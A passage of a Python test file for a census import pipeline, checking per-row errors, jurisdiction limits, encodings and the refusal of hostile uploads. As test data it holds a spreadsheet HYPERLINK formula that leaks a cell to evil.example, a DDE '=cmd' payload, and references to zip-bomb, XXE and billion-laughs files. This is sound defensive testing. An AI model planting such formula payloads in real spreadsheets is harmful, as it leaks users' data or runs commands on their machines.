"""The census import pipeline as a user meets it (upload → preview → commit) and as code calls it.

Every class of bad input gets an exact, readable error (row, column, value, reason in Chinese), files
that are not spreadsheets are refused as a whole, and the registry is unchanged afterwards."""
from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files import File
from django.db import connection
from openpyxl import load_workbook

from census.importing.columns import HeaderError
from census.importing.models import CensusImport, ImportStatus
from census.importing.pipeline import RegistryLookup, run_census_import
from census.importing.reading import FileRejected
from census.importing.services import (
    census_import_request,
    census_import_run,
    census_import_upload,
)
from census.importing.workbooks import census_template_workbook
from census.registry.models import (
    Campaign,
    Headcount,
    Person,
    PersonEvent,
    PersonEventKind,
)
from census.registry.selectors import person_history
from census.registry.services import person_create
from census.registry.signals import census_changed
from orgs.regions.models import Region
from orgs.units.models import Unit
from tests.census import import_files as files
from tests.census.factories import import_record, valid_id
from tests.census.import_files import SHORT_HEADERS, row

HUANING_MESSAGE = "此人已在云南省玉溪市华宁县登记，请联系该县办理迁移"
OUTSIDE = "区划不在您的管辖范围内"
MISSING_REGION = "区划不存在（请填区划代码或全称）"
TODAY = dt.date(2026, 3, 1)


# ---------------------------------------------------------------- fixtures and helpers


# Uploaded files and error reports go to the test's own directory (conftest.media_dir), not var/media.
pytestmark = pytest.mark.usefixtures("media_dir")


@pytest.fixture
def places(db):
    codes = {"hexi": "530423101", "nagu": "530423102", "tonghai": "530423", "huaning": "530424"}
    return {key: Region.objects.get(code=code) for key, code in codes.items()}


@pytest.fixture
def school(places):
    return Unit.objects.create(name="通海县第一中学", kind="school", region=places["hexi"])


@pytest.fixture
def huaning_id(huaning_official, places):
    """The ID of a person already registered in 华宁县 (by its own official)."""
    number = files.ids("530424", 1, seed=99)[0]
    person_create(editor=huaning_official, name="华宁某人", id_number=number, category="relative", region=places["huaning"])
    return number


@pytest.fixture
def registered(tonghai_official, places, school):
    """A person already registered in 通海县 河西镇 (so the registry is not empty)."""
    number = files.ids("530423", 1, seed=77)[0]
    person = person_create(
        editor=tonghai_official, name="李四", id_number=number, category="returned", region=places["hexi"],
        unit=school, phone="13900000000",
    )
    return person, number


def snapshot() -> dict:
    """Every row of the registry tables, all columns: equal snapshots mean nothing was written."""
    return {
        model.__name__: list(model.objects.order_by("pk").values_list())
        for model in (Person, PersonEvent, Headcount, Unit)
    }


def upload(user, path: Path, campaign: Campaign) -> CensusImport:
    with open(path, "rb") as handle:
        return census_import_upload(user=user, uploaded_file=File(handle, name=path.name), campaign=campaign)


def import_file(user, path: Path, campaign: Campaign, *, commit: bool, valid_only: bool = False) -> CensusImport:
    return census_import_run(record=upload(user, path, campaign), commit=commit, valid_only=valid_only)


NUMBER_CELL = "<an 18-digit number>"


def errors_of(record_or_outcome) -> set[tuple]:
    """The errors as (row, column, value, reason); an ID that Excel turned into a number shows as
    whatever digits the float kept, so it is compared by shape."""
    found = set()
    for e in record_or_outcome.errors:
        error = (e["row"], e["column"], e["value"], e["reason"]) if isinstance(e, dict) else (e.row, e.column, e.value, e.reason)
        if error[1] == "证件号码" and "数字格式" in error[3]:
            assert len(error[2]) == 18 and error[2][6:14] == "********", error  # masked, as every ID
            error = (*error[:2], NUMBER_CELL, error[3])
        found.add(error)
    return found


# ---------------------------------------------------------------- the file with every class of bad input

FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
FORMULA_NAME = "=cmd|' /C calc'!A0"


@pytest.fixture
def bad_file(tmp_path, huaning_id):
    """An .xlsx with one row per class of bad input, two good rows and empty rows, and the expected errors."""
    good = files.ids("530423", 12, seed=5)
    header = [*SHORT_HEADERS, "籍贯"]  # an unknown column: ignored and reported
    r = lambda **values: row(header, **values)  # noqa: E731
    base = {"类别": "侨眷", "居住地区划代码": "530423101"}
    wrong_check = good[2][:17] + ("0" if good[2][17] != "0" else "1")
    born_1980 = files.id_born("530423", dt.date(1980, 5, 6), sequence=123)  # odd: male
    rows = [
        # 2: valid, with a formula-like note and a unit
        r(姓名="张三", 身份证号码=good[0], 工作单位="通海县第一中学", 联系电话="13912345678", 备注=FORMULA_NOTE, **base),
        # 3: valid, formula-like name, region by full name, full-width digits and spaces in the phone
        r(姓名=FORMULA_NAME, 身份证号码=good[1], 类别="归侨", 居住地区划代码="云南省玉溪市通海县纳古镇", 联系电话="１３９ １２３４ ５６７８"),
        # 4: wrong check character
        r(姓名="王五", 身份证号码=wrong_check, **base),
        # 5: region that does not exist
        r(姓名="赵六", 身份证号码=good[3], **{**base, "居住地区划代码": "530423999"}),
        # 6: region of 华宁县: outside a 通海 official's scope (formula in an invalid row's note)
        r(姓名="@SUM(1+1)", 身份证号码=good[4], 备注=FORMULA_NOTE, **{**base, "居住地区划代码": "530424"}),
        # 7: the same ID as row 2
        r(姓名="张三重", 身份证号码=good[0], **base),
        # 8: empty
        [],
        # 9: already registered in 华宁县
        r(姓名="华宁某人", 身份证号码=huaning_id, **base),
        # 10: a date that does not exist
        r(姓名="孙七", 身份证号码=good[5], 出生日期="2001/2/30", **base),
        # 11: a date nobody can read
        r(姓名="周八", 身份证号码=good[6], 出生日期="去年", **base),
        # 12: ID typed as a number: Excel rounded it
        r(姓名="吴九", 身份证号码=float(good[7]), **base),
        # 13: unknown category
        r(姓名="郑十", 身份证号码=good[8], **{**base, "类别": "侨胞家属"}),
        # 14: unknown unit
        r(姓名="钱一", 身份证号码=good[9], 工作单位="不存在的单位", **base),
        # 15: no name
        r(身份证号码=good[10], **base),
        # 16: birth date and gender contradict the ID
        r(姓名="陈二", 身份证号码=born_1980, 出生日期="1990-01-01", 性别="女", **base),
        # 17: impossible birth date inside the ID, unreadable phone (words and two numbers: kept masked)
        r(姓名="林三", 身份证号码="11010519990230002X", 联系电话="打电话13912345678/138-1234-5679", **base),
        # 18, 19: empty (whitespace only), then one more bad row (20) so they are not trailing
        [" ", "\u3000"],
        [],
        r(姓名="何四", 身份证号码=good[11], **{**base, "类别": ""}),
    ]
    path = files.write_xlsx(tmp_path / "侨情登记-错误.xlsx", header, rows)
    PHONE_FORMAT = "联系电话格式不正确：应为一个 5 至 20 位的号码（可以 + 开头），不能写两个号码或分机号"
    expected = {
        (4, "证件号码", wrong_check[:6] + "********" + wrong_check[-4:], f"身份证号码校验位应为 {good[2][17]}，实为 {wrong_check[17]}"),
        (5, "居住地区划代码", "530423999", MISSING_REGION),
        (6, "居住地区划代码", "530424", OUTSIDE),
        (7, "证件号码", good[0][:6] + "********" + good[0][-4:], "与第 2 行证件号码重复"),
        (9, "证件号码", huaning_id[:6] + "********" + huaning_id[-4:], HUANING_MESSAGE),
        (10, "出生日期", "2001/2/30", "日期不存在"),
        (11, "出生日期", "去年", "无法识别的出生日期（可用 2001-01-05、2001/1/5、2001年1月5日，或只写年月：2001.01、2001年1月）"),
        (12, "证件号码", NUMBER_CELL, "该单元格是数字格式，Excel 已将 18 位号码的末几位变为 0：请将此列设为文本后重新填写"),
        (13, "类别", "侨胞家属", "未知类别（可填：归侨、侨眷、华侨、外籍华人、留学人员、留学人员眷属）"),
        (15, "姓名", "", "必填项为空"),
        (16, "性别", "女", "与证件号码中的性别（男）不一致"),
        (16, "出生日期", "1990-01-01", "与证件号码中的出生日期 1980-05-06 不一致"),
        (17, "证件号码", "110105********002X", "身份证号码中的出生日期 19990230 不是有效日期"),
        (17, "联系电话", "打电话139****5678/138****5679", PHONE_FORMAT),
        (20, "类别", "", "必填项为空"),
    }
    return path, expected, good


@pytest.mark.django_db
def test_every_class_of_bad_input_gets_an_exact_error(tonghai_official, campaign, school, registered, bad_file):
    path, expected, _good = bad_file
    before = snapshot()

    record = import_file(tonghai_official, path, campaign, commit=False)

    assert record.status == ImportStatus.PREVIEWED
    assert errors_of(record) == expected
    # a unit the directory lacks is no error in the preview: a unit to create, if the user confirms
    assert (record.rows, record.new, record.updated, record.unchanged, record.invalid) == (16, 3, 0, 0, 13)
    assert [(u["name"], u["region_code"], u["rows"], u["first_row"]) for u in record.reading["new_units"]] == [("不存在的单位", "530423101", 1, 14)]
    assert record.message == "已忽略无法识别的列：籍贯"
    assert snapshot() == before  # a preview writes nothing

    # the import record keeps the file, the user, the time and the counts
    assert record.user == tonghai_official and record.original_name == "侨情登记-错误.xlsx"
    assert record.file.open("rb").read() == path.read_bytes()  # as uploaded, once opened (sealed on disk)
    assert record.created_at is not None and record.region.code == "530423"


@pytest.mark.django_db
def test_all_or_nothing_commit_refuses_a_file_with_invalid_rows(tonghai_official, campaign, school, registered, bad_file):
    path, expected, _good = bad_file
    before = snapshot()

    record = import_file(tonghai_official, path, campaign, commit=True)

    assert record.status == ImportStatus.REJECTED
    assert record.message == "文件有 14 行无效，未写入任何数据"
    # not confirmed: the row naming a unit the directory lacks is refused, as it always was
    unit_missing = "单位不存在或不在您的管辖范围内，请先在单位名录中登记，或在确认导入时选择新建"
    assert errors_of(record) == expected | {(14, "工作单位", "不存在的单位", unit_missing)}
    assert snapshot() == before


@pytest.mark.django_db
def test_error_report_has_the_original_rows_an_error_column_and_no_formulas(tonghai_official, campaign, school, bad_file):
    path, _expected, _good = bad_file
    record = import_file(tonghai_official, path, campaign, commit=False)

    book = load_workbook(record.error_report.open("rb"))
    sheet = book.active
    values = [[c.value for c in r] for r in sheet.iter_rows()]
    assert values[0] == ["原行号", *SHORT_HEADERS, "籍贯", "错误原因"]
    assert [r[0] for r in values[1:]] == [4, 5, 6, 7, 9, 10, 11, 12, 13, 15, 16, 17, 20]
    by_row = {r[0]: r for r in values[1:]}
    # original cells as uploaded, including the row refused only after matching (registered in 华宁县)
    assert by_row[9][1] == "华宁某人" and by_row[9][4] not in (None, "")
    assert by_row[5][6] == "530423999"
    assert by_row[16][-1] == "【性别】与证件号码中的性别（男）不一致；【出生日期】与证件号码中的出生日期 1980-05-06 不一致"
    assert by_row[9][-1] == f"【证件号码】{HUANING_MESSAGE}"
    # formula injection: text that starts like a formula is escaped, and no cell is a formula
    assert by_row[6][1] == "'@SUM(1+1)"
    assert by_row[6][9] == "'" + FORMULA_NOTE
    for sheet_row in sheet.iter_rows():
        for cell in sheet_row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@", "\t")), cell.coordinate


@pytest.mark.django_db
def test_an_error_report_corrected_and_uploaded_again_imports_the_values_as_first_given(tonghai_official, campaign, tmp_path):
    """The report escapes formula-like text with an apostrophe ("'+86…"); the import takes it off again,
    so the user's round trip (download the report, correct it, upload it) stores the original values."""
    number = files.ids("530423", 1, seed=31)[0]
    given = {"姓名": "@张", "联系电话": "+8613812345678", "备注": "-负号开头的备注", "居住地区划代码": "530423101"}
    path = files.write_xlsx(tmp_path / "first.xlsx", SHORT_HEADERS, [row(身份证号码=number, 类别="归乔", **given)])
    first = import_file(tonghai_official, path, campaign, commit=False)
    assert errors_of(first) == {(2, "类别", "归乔", "未知类别（可填：归侨、侨眷、华侨、外籍华人、留学人员、留学人员眷属）")}

    book = load_workbook(first.error_report.open("rb"))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2]))
    assert cells["联系电话"].value == "'+8613812345678" and cells["备注"].value == "'-负号开头的备注"
    cells["类别"].value = "归侨"
    corrected = tmp_path / "corrected.xlsx"
    book.save(corrected)
    again = import_file(tonghai_official, corrected, campaign, commit=True)

    assert (again.status, again.new, again.invalid) == (ImportStatus.COMMITTED, 1, 0), again.errors
    person = Person.objects.get()
    assert (person.name, person.phone, person.notes) == ("@张", "13812345678", "-负号开头的备注")  # the mobile without its country code


@pytest.mark.django_db
def test_the_commit_replaces_the_previews_error_report_and_leaves_no_copy(tonghai_official, campaign, tmp_path):
    good, bad = files.ids("530423", 2, seed=32)
    rows = [row(姓名="甲", 身份证号码=good, 类别="侨眷", 居住地区划代码="530423101"), row(姓名="乙", 身份证号码=bad, 类别="外星人", 居住地区划代码="530423101")]
    record = import_file(tonghai_official, files.write_xlsx(tmp_path / "two.xlsx", SHORT_HEADERS, rows), campaign, commit=False)
    preview_report = Path(record.error_report.path)
    assert preview_report.exists()

    record = census_import_request(record=record, user=tonghai_official, commit=True, valid_only=True, inline=True)

    assert (record.status, record.new, record.invalid) == (ImportStatus.COMMITTED, 1, 1)
    reports = sorted(p.name for p in preview_report.parent.glob("errors-*"))
    assert reports == [Path(record.error_report.name).name]
    assert load_workbook(record.error_report.open("rb")).active.cell(2, 2).value == "乙"


@pytest.mark.django_db
def test_valid_only_imports_just_the_valid_rows(
    tonghai_official, campaign, school, places, registered, bad_file, django_capture_on_commit_callbacks
):
    path, _expected, good = bad_file
    received = []

    def receiver(sender, **kwargs):
        received.append(kwargs)

    census_changed.connect(receiver)
    try:
        with django_capture_on_commit_callbacks(execute=True):
            record = import_file(tonghai_official, path, campaign, commit=True, valid_only=True)
    finally:
        census_changed.disconnect(receiver)

    assert record.status == ImportStatus.COMMITTED and record.valid_only
    assert (record.new, record.invalid) == (2, 14)
    zhang = Person.objects.get(id_number_masked=good[0][:6] + "********" + good[0][-4:])
    assert (zhang.name, zhang.region, zhang.unit, zhang.category, zhang.phone) == ("张三", places["hexi"], school, "relative", "13912345678")
    assert zhang.notes == FORMULA_NOTE  # stored as the text it is; escaping is the exports' job
    assert zhang.verified_campaign == campaign
    assert zhang.birth_date == dt.date(int(good[0][6:10]), int(good[0][10:12]), int(good[0][12:14]))
    formula = Person.objects.get(name=FORMULA_NAME)
    assert (formula.region, formula.category, formula.phone) == (places["nagu"], "returned", "13912345678")
    # registered by this import: no history row per person, the registration is read from the record
    assert {zhang.registered_by_import, formula.registered_by_import} == {record}
    assert not PersonEvent.objects.filter(person__in=[zhang, formula]).exists()
    [registration] = person_history(zhang)
    assert (registration.kind, registration.actor, registration.to_region, registration.at) == (
        PersonEventKind.IMPORTED, tonghai_official, places["hexi"], zhang.created_at,
    )
    assert registration.note == f"导入 #{record.pk} 登记" and registration.census_import == record.pk
    # nothing of the invalid rows, nothing in 华宁县 beyond its own person
    assert Person.objects.filter(region=places["huaning"]).count() == 1
    assert Person.objects.count() == 4

    # headcounts of the touched regions and unit, for this campaign
    own = {(h.region.code, h.unit_id, h.category): h.count for h in Headcount.objects.filter(campaign=campaign)}
    assert own[("530423101", None, "relative")] == 1
    assert own[("530423102", None, "returned")] == 1
    assert own[("530423101", school.pk, "relative")] == 1
    # the census_changed signal names the touched places
    assert len(received) == 1
    assert received[0]["region_ids"] == {places["hexi"].pk, places["nagu"].pk}
    assert received[0]["unit_ids"] == {school.pk}
    assert received[0]["campaign"] == campaign


@pytest.mark.django_db
def test_a_commit_is_one_transaction(tonghai_official, campaign, registered, tmp_path, monkeypatch):
    """A failure late in the write (here: the headcount refresh) leaves no person, event or count behind."""
    numbers = files.ids("530423", 5, seed=6)
    rows = [row(姓名=f"人{i}", 身份证号码=n, 类别="侨眷", 居住地区划代码="530423101") for i, n in enumerate(numbers)]
    rows.append(row(姓名="李四改", 身份证号码=registered[1], 类别="归侨", 居住地区划代码="530423102"))
    path = files.write_xlsx(tmp_path / "ok.xlsx", SHORT_HEADERS, rows)
    before = snapshot()

    def broken(**kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr("census.importing.pipeline.headcounts_add", broken)
    with pytest.raises(RuntimeError, match="disk full"):
        run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True, record=import_record(tonghai_official, campaign))

    assert snapshot() == before


# ---------------------------------------------------------------- headers


@pytest.mark.django_db
@pytest.mark.parametrize(
    "header, message",
    [
        (["姓名", "类别", "居住地区划代码", "手机"], "缺少必需的列：证件号码"),
        (["名字", "证件", "类别", "区划代码"], "缺少必需的列：证件号码；无法识别的列：证件"),
        # the schema's own keys are accepted as headers (name, category, region); "ID" is not one
        (["Name", "ID", "Category", "Region"], "缺少必需的列：证件号码；无法识别的列：ID"),
        (["Nom", "Numéro", "Catégorie"], "缺少必需的列：姓名、证件号码、类别、居住地区划代码；无法识别的列：Nom、Numéro、Catégorie"),
        (["姓名", "名字", "身份证号码", "类别", "居住地"], "列重复：名字"),
        # a blank header row: the likeliest header is the fullest row, here the person's (columns.likeliest_header)
        ([], "缺少必需的列：姓名、证件号码、类别、居住地区划代码；无法识别的列：张三、x、y、z"),
    ],
)
def test_wrong_headers_are_named(tonghai_official, campaign, tmp_path, header, message):
    path = files.write_xlsx(tmp_path / "表头.xlsx", header or ["", ""], [["张三", "x", "y", "z"]])
    before = snapshot()

    record = import_file(tonghai_official, path, campaign, commit=True)

    assert record.status == ImportStatus.FAILED
    assert record.message == message
    with pytest.raises(HeaderError, match=r"缺少必需的列|列重复"):
        run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True, record=import_record(tonghai_official, campaign))
    assert snapshot() == before


@pytest.mark.django_db
def test_header_synonyms_spacing_and_full_width_parentheses(tonghai_official, campaign, tmp_path):
    number = files.ids("530423", 1, seed=8)[0]
    header = ["姓 名", "公民身份号码", "人员类别", "居住地", "侨居国（地区）", "手机号码", " 备注 "]
    path = files.write_csv(tmp_path / "synonyms.csv", header, [["张三", number, "华侨", "530423102", "缅甸", "13912345678", "x"]])

    outcome = run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True, record=import_record(tonghai_official, campaign))

    assert (outcome.new, outcome.invalid, outcome.ignored_headers) == (1, 0, [])
    person = Person.objects.get(name="张三")
    assert (person.category, person.country, person.phone, person.notes) == ("overseas", "缅甸", "13912345678", "x")


# ---------------------------------------------------------------- encodings and values


def _csv_rows(numbers):
    return [
        ["张三丰", "", "", numbers[0], "归侨", "云南省玉溪市通海县河西镇", "", "", "备注：侨眷联谊"],
        ["欧阳娜娜", "", "", numbers[1], "留学人员眷属", "530423102", "", "", ""],
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("encoding", ["gbk", "utf-8-sig", "utf-8"])
def test_csv_encodings_keep_chinese_intact(tonghai_official, campaign, tmp_path, encoding):
    numbers = files.ids("530423", 2, seed=11)
    path = files.write_csv(tmp_path / f"侨情-{encoding}.csv", SHORT_HEADERS, _csv_rows(numbers), encoding=encoding)
    if encoding == "gbk":
        with pytest.raises(UnicodeDecodeError):
            path.read_bytes().decode("utf-8")  # really not UTF-8

    record = import_file(tonghai_official, path, campaign, commit=True)

    assert record.status == ImportStatus.COMMITTED, record.message
    assert (record.rows, record.new, record.invalid) == (2, 2, 0)
    people = {p.name: p for p in Person.objects.filter(name__in=["张三丰", "欧阳娜娜"])}
    assert set(people) == {"张三丰", "欧阳娜娜"}
    assert people["张三丰"].region.full_name == "云南省玉溪市通海县河西镇"
    assert people["张三丰"].notes == "备注:侨眷联谊"  # full-width punctuation becomes half-width
    assert people["欧阳娜娜"].category == "student_relative"


@pytest.mark.django_db
def test_tab_separated_text_is_read(tonghai_official, campaign, tmp_path):
    number = files.ids("530423", 1, seed=12)[0]
    text = "\t".join(["姓名", "身份证号码", "类别", "居住地区划代码"]) + "\n" + "\t".join(["张三", number, "侨眷", "530423101"]) + "\n"
    path = files.write_bytes(tmp_path / "侨情.txt", text.encode("gbk"))
    outcome = run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=False)
    assert (outcome.rows, outcome.new, outcome.invalid) == (1, 1, 0)


BIRTH_CELLS = [
    36896,  # an Excel date serial as a number cell
    "36896",  # the same as text
    "2001/1/5",
    "2001-01-05",
    "2001年1月5日",
    "２００１年１月５日",  # full-width digits
    " 2001.01.05 ",
    "20010105",
    dt.date(2001, 1, 5),  # a real date cell
    "2001-01-05 00:00:00",  # str() of a datetime
    "2001/1/5 0:00",  # how Chinese Excel saves a date cell to CSV
    "2001-01-05T00:00:00",
]


@pytest.mark.django_db
def test_date_formats(tonghai_official, campaign, tmp_path):
    birth = dt.date(2001, 1, 5)
    rows = [
        row(姓名=f"测试{i}", 出生日期=cell, 身份证号码=files.id_born("530423", birth, sequence=100 + i), 类别="侨眷", 居住地区划代码="530423101")
        for i, cell in enumerate(BIRTH_CELLS)
    ]
    path = files.write_xlsx(tmp_path / "dates.xlsx", SHORT_HEADERS, rows)

    outcome = run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True, record=import_record(tonghai_official, campaign), today=TODAY)

    assert outcome.errors == []
    assert outcome.new == len(BIRTH_CELLS)
    assert set(Person.objects.filter(name__startswith="测试").values_list("birth_date", flat=True)) == {birth}


@pytest.mark.django_db
def test_values_are_trimmed_and_half_width(tonghai_official, campaign, tmp_path):
    number = files.ids("530423", 1, seed=13)[0]
    full_width_id = number.translate({ord(c): ord(c) + 0xFEE0 for c in "0123456789X"})
    rows = [row(姓名="  张 三  ", 身份证号码=f" {full_width_id[:6]} {full_width_id[6:]} ", 类别=" 侨眷 ", 居住地区划代码="５３０４２３１０１", 联系电话=" 139-1234-5678 ")]
    path = files.write_xlsx(tmp_path / "trim.xlsx", SHORT_HEADERS, rows)

    outcome = run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True, record=import_record(tonghai_official, campaign))

    assert outcome.errors == [] and outcome.new == 1
    person = Person.objects.get(name="张 三")
    assert (person.region.code, person.category, person.phone) == ("530423101", "relative", "13912345678")
    assert person.id_number_masked == number[:6] + "********" + number[-4:]


# ---------------------------------------------------------------- re-import, changes, transfers


@pytest.mark.django_db
def test_reimport_is_unchanged_then_a_changed_phone_is_an_update(tonghai_official, campaign, tmp_path, places):
    numbers = files.ids("530423", 3, seed=21)
    rows = [row(姓名=f"人{i}", 身份证号码=n, 类别="侨眷", 居住地区划代码="530423101", 联系电话=f"1390000000{i}") for i, n in enumerate(numbers)]
    path = files.write_xlsx(tmp_path / "first.xlsx", SHORT_HEADERS, rows)
    first = import_file(tonghai_official, path, campaign, commit=True)
    assert (first.status, first.new) == (ImportStatus.COMMITTED, 3)

    again = import_file(tonghai_official, path, campaign, commit=True)
    assert (again.rows, again.new, again.updated, again.unchanged, again.invalid) == (3, 0, 0, 3, 0)
    events_before = PersonEvent.objects.count()

    rows[1] = row(姓名="人1", 身份证号码=numbers[1], 类别="侨眷", 居住地区划代码="530423101", 联系电话="13811112222")
    changed_path = files.write_xlsx(tmp_path / "second.xlsx", SHORT_HEADERS, rows)
    preview = import_file(tonghai_official, changed_path, campaign, commit=False)
    assert (preview.new, preview.updated, preview.unchanged) == (0, 1, 2)
    assert Person.objects.get(name="人1").phone == "13900000001"  # preview wrote nothing

    changed = import_file(tonghai_official, changed_path, campaign, commit=True)
    assert (changed.status, changed.updated, changed.unchanged) == (ImportStatus.COMMITTED, 1, 2)
    person = Person.objects.get(name="人1")
    assert person.phone == "13811112222"
    assert PersonEvent.objects.count() == events_before + 1
    event = person.events.first()
    assert event.kind == PersonEventKind.IMPORTED and event.actor == tonghai_official
    assert event.changes == {"phone": ["139****0001", "138****2222"]}  # phones masked in history


@pytest.mark.django_db
def test_a_new_region_in_the_file_is_a_transfer_and_updates_both_headcounts(tonghai_official, campaign, tmp_path, places):
    number = files.ids("530423", 1, seed=22)[0]
    first = files.write_xlsx(tmp_path / "a.xlsx", SHORT_HEADERS, [row(姓名="迁移人", 身份证号码=number, 类别="归侨", 居住地区划代码="530423101")])
    run_census_import(first, first.name, user=tonghai_official, campaign=campaign, commit=True, record=import_record(tonghai_official, campaign))
    assert Headcount.objects.get(campaign=campaign, region=places["hexi"], unit=None, category="returned").count == 1

    moved = files.write_xlsx(tmp_path / "b.xlsx", SHORT_HEADERS, [row(姓名="迁移人", 身份证号码=number, 类别="归侨", 居住地区划代码="530423102")])
    outcome = run_census_import(moved, moved.name, user=tonghai_official, campaign=campaign, commit=True, record=import_record(tonghai_official, campaign))

    assert outcome.updated == 1
    person = Person.objects.get(name="迁移人")
    event = person.events.first()
    assert (event.kind, event.from_region, event.to_region) == (PersonEventKind.TRANSFERRED, places["hexi"], places["nagu"])
    # the history: the transfer, then the registration by the first import, where it happened (河西镇)
    history = person_history(person)
    assert [(e.kind, e.to_region) for e in history] == [
        (PersonEventKind.TRANSFERRED, places["nagu"]), (PersonEventKind.IMPORTED, places["hexi"]),
    ]
    assert person.registered_by_import_id is not None and history[-1].census_import == person.registered_by_import_id
    assert history[-1].pk is None  # read from the import record, not stored per person
    assert not Headcount.objects.filter(campaign=campaign, region=places["hexi"], unit=None).exists()
    assert Headcount.objects.get(campaign=campaign, region=places["nagu"], unit=None, category="returned").count == 1


# ---------------------------------------------------------------- scope


@pytest.mark.django_db
def test_tonghai_cannot_import_into_huaning(tonghai_official, huaning_official, campaign, tmp_path, places):
    numbers = files.ids("530424", 2, seed=31)
    rows = [
        row(姓名="甲", 身份证号码=numbers[0], 类别="侨眷", 居住地区划代码="530424"),
        row(姓名="乙", 身份证号码=numbers[1], 类别="侨眷", 居住地区划代码="云南省玉溪市华宁县"),
    ]
    path = files.write_xlsx(tmp_path / "huaning.xlsx", SHORT_HEADERS, rows)
    before = snapshot()

    record = import_file(tonghai_official, path, campaign, commit=True, valid_only=True)

    assert errors_of(record) == {
        (2, "居住地区划代码", "530424", OUTSIDE),
        (3, "居住地区划代码", "云南省玉溪市华宁县", OUTSIDE),
    }
    assert snapshot() == before

    # a campaign of 华宁县 alone is not even visible to 通海县
    huaning_round = Campaign.objects.create(year=2026, name="2026年度华宁县侨情调查", region=places["huaning"])
    with pytest.raises(PermissionDenied):
        upload(tonghai_official, path, huaning_round)
    # nor is an import record of 华宁县's official
    theirs = upload(huaning_official, path, campaign)
    with pytest.raises(PermissionDenied):
        census_import_request(record=theirs, user=tonghai_official, commit=False)
    assert not CensusImport.objects.visible_to(tonghai_official).filter(pk=theirs.pk).exists()
    assert snapshot() == before


@pytest.mark.django_db
def test_leadership_cannot_import(yuxi_leader, campaign, tmp_path):
    path = files.write_xlsx(tmp_path / "x.xlsx", SHORT_HEADERS, [])
    with pytest.raises(PermissionDenied):
        upload(yuxi_leader, path, campaign)


@pytest.mark.django_db
def test_a_person_registered_elsewhere_is_named_by_county_only(tonghai_official, huaning_official, campaign, tmp_path, places):
    number = files.ids("530424", 1, seed=41)[0]
    person_create(
        editor=huaning_official, name="华宁秘密姓名", id_number=number, category="relative", region=places["huaning"],
        phone="13711112222", notes="秘密备注",
    )
    path = files.write_csv(tmp_path / "x.csv", SHORT_HEADERS, [row(姓名="别名", 身份证号码=number, 类别="归侨", 居住地区划代码="530423101")])

    outcome = run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=False)

    [error] = outcome.errors
    assert error.reason == HUANING_MESSAGE
    for secret in ("华宁秘密姓名", "13711112222", "秘密备注", "relative", "侨眷", number):
        assert secret not in str(error)


# ---------------------------------------------------------------- hostile and wrong files

MIB = 1 << 20


def _hostile(tmp_path: Path, kind: str) -> tuple[Path, str]:
    """(file, the start of the message that refuses it)."""
    good_xlsx = files.write_xlsx(tmp_path / "good.xlsx", SHORT_HEADERS, [row(姓名="张三", 身份证号码="11010519491231002X", 类别="侨眷", 居住地区划代码="530423101")])
    builders = {
        "junk_20mb_xlsx": lambda: (files.write_junk(tmp_path / "junk.xlsx", 20 * MIB), "“junk.xlsx”不是有效的 Excel 文件（内容不是 xlsx 或 xls 格式）"),
        "junk_20mb_csv": lambda: (files.write_junk(tmp_path / "junk.csv", 20 * MIB), "“junk.csv”不是文本文件（含二进制内容），不能作为 CSV 读取"),
        "png_as_xlsx": lambda: (files.write_bytes(tmp_path / "photo.xlsx", files.PNG_BYTES), "“photo.xlsx”不是有效的 Excel 文件（内容不是 xlsx 或 xls 格式）"),
        "png_as_csv": lambda: (files.write_bytes(tmp_path / "photo.csv", files.PNG_BYTES), "“photo.csv”不是文本文件（含二进制内容），不能作为 CSV 读取"),
        "pdf_as_xlsx": lambda: (files.write_bytes(tmp_path / "doc.xlsx", files.PDF_BYTES), "“doc.xlsx”不是有效的 Excel 文件（内容不是 xlsx 或 xls 格式）"),
        # An Office file that says it is .xls but is no workbook: taken on upload (.xls is read), refused reading it.
        "broken_xls": lambda: (files.write_bytes(tmp_path / "old.xls", files.OLE_HEADER), "无法读取 Excel 文件"),
        "legacy_xls_as_xlsx": lambda: (files.write_bytes(tmp_path / "old.xlsx", files.OLE_HEADER), "“old.xlsx”的内容是旧版 Office 文件，与扩展名 .xlsx 不符"),
        "xlsx_as_csv": lambda: (files.write_bytes(tmp_path / "sheet.csv", good_xlsx.read_bytes()), "“sheet.csv”的内容是压缩包（xlsx），与扩展名 .csv 不符"),
        "unsupported_suffix": lambda: (files.write_bytes(tmp_path / "data.json", b'{"a": 1}'), "不支持的文件类型 .json：请上传 .xlsx、.xls 或 .csv"),
        "zip_bomb": lambda: (files.write_zip_bomb(tmp_path / "bomb.xlsx", 420), "Excel 文件解压后达"),
        "many_entries": lambda: (files.write_many_entries_zip(tmp_path / "many.xlsx", 2001), "Excel 文件包含 2001 个内部文件，超过上限，疑似恶意文件"),
        "lying_zip": lambda: (files.write_lying_zip(tmp_path / "liar.xlsx", good_xlsx), "Excel 文件中“xl/worksheets/sheet1.xml”的实际内容与压缩包目录记载的大小或校验值不符"),
        "xxe": lambda: (files.write_xlsx_with_doctype(tmp_path / "xxe.xlsx", good_xlsx, "xl/worksheets/sheet1.xml", files.XXE),
                        "Excel 文件中“xl/worksheets/sheet1.xml”含有 XML 文档类型或实体声明"),
        "billion_laughs": lambda: (files.write_xlsx_with_doctype(tmp_path / "lol.xlsx", good_xlsx, "xl/workbook.xml", files.BILLION_LAUGHS),
                                   "Excel 文件中“xl/workbook.xml”含有 XML 文档类型或实体声明"),
        "docx_as_xlsx": lambda: (files.write_docx_like(tmp_path / "letter.xlsx"), "压缩包不是 Excel 工作簿（缺少工作表）"),
        "corrupt_xlsx": lambda: (files.write_corrupt_sheet_xlsx(tmp_path / "broken.xlsx"), "无法读取 Excel 文件"),
